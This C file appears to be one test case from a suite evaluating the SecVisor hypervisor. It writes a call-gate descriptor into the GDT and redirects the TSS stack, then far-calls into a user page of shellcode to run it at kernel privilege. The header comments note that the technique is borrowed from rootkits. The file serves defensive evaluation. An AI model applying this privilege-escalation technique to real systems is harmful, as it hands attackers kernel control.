// Row 9. A call gate in the GDT to code in a user page; the user program calls through it.
// Source: call gates: /dev/kmem-era rootkits, Windows's "callgate" trick.
// Ends: natively succeeded; beneath SecVisor refused, instruction: a general-protection fault of the user program.
#include "common/attack.h"
#include <string.h>

ATTACK("call-gate-gdt")
{
	struct vulnerable_operation op = { .what = VULNERABLE_TABLES };
	u64 gs = operate(VULNERABLE_GS, 0, 0, 0), stack = operate(VULNERABLE_VMALLOC, 16 * PAGE, 0, 0);
	u8 *page = user_page(), entry[16];
	u64 tss, low, high;
	long result;

	memcpy(page, "\xb8\x37\x13\0\0\x48\xcb", 7); // mov eax, 0x1337; lretq
	make_executable((u64)page);
	if (try_operate(&op))
		failed("no tables");
	// What refuses the call does so on the stack the TSS names: a roomy one.
	low = kread64(op.out[1] + (op.out[3] >> 16));
	high = kread64(op.out[1] + (op.out[3] >> 16) + 8);
	tss = (low >> 16 & 0xffffff) | (low >> 56) << 24 | high << 32;
	u64 top = stack + 15 * PAGE;
	poke_bytes(tss + 4, &top, 8);
	call_gate(entry, (u64)page);
	expect_fault();
	unprotect();
	// Where the kernel puts the LDT's descriptor; this process has none.
	const u16 selector = 10 * 8;

	poke_bytes(op.out[1] + selector, entry, sizeof(entry));
	about_to("call through a gate in the GDT");
	result = call_far(selector | 3, gs);
	if (result == MARK)
		succeeded("a call gate in the GDT led to a user page at CPL 0");
	failed("the call returned %ld", result);
}
